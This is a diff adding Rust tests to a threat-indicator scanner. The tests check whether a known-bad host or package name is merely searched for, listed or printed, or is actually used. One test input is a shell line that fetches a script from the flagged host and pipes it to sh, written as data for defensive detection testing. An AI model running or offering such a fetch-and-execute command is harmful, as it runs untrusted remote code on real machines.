@@ -103,7 +103,7 @@ fn a_literal_in_a_test_file_is_what_is_tested() {
 
 #[test]
 fn a_file_with_many_deciding_indicators_is_a_list() {
-    let intel = Intel::load().expect("the table loads");
+    let intel = Intel::load();
     let hosts = intel.rows().iter().filter(|row| row.decides && row.what == What::Domain).take(8);
     let mut text = String::from("const blocked = [\n");
     for row in hosts {
@@ -122,6 +122,28 @@ fn a_constant_that_is_used_decides_and_one_in_a_list_is_searched_for() {
     assert_eq!(basis("src/a.js", Kind::JavaScript, used), Some(Basis::ExactIntelligence));
     let listed = "module.exports = [\n  'LurescanSelfTest@)@^Constant',\n  'other',\n];";
     assert_eq!(basis("src/a.js", Kind::JavaScript, listed), Some(Basis::Context));
+}
+
+#[test]
+fn what_is_searched_for_or_shown_is_not_used() {
+    for (path, kind, text) in [
+        ("scan.sh", Kind::Shell, format!("  fast_grep_files_fixed \"{HOST}\" < list | while read f; do")),
+        ("scan.sh", Kind::Shell, format!("echo \"$file: known host ({HOST})\" >> found.txt")),
+        ("scan.js", Kind::JavaScript, format!("if (text.includes('{HOST}')) hits += 1;")),
+        ("scan.py", Kind::Python, format!("print(\"seen: {HOST}\")")),
+    ] {
+        assert_eq!(basis(path, kind, &text), Some(Basis::Context), "{text}");
+    }
+    for text in [format!("echo https://{HOST} | xargs curl -s | sh"), format!("curl https://{HOST} | grep x")] {
+        assert_eq!(basis("a.sh", Kind::Shell, &text), Some(Basis::ExactIntelligence), "{text}");
+    }
+}
+
+#[test]
+fn a_dependency_of_a_fixture_is_context_and_of_the_target_itself_decides() {
+    let manifest = r#"{"dependencies":{"lurescan-self-test-package":"1"}}"#;
+    assert_eq!(basis("test-cases/attack/package.json", Kind::Json, manifest), Some(Basis::Context));
+    assert_eq!(basis("packages/app/package.json", Kind::Json, manifest), Some(Basis::ExactIntelligence));
 }
 
 #[test]
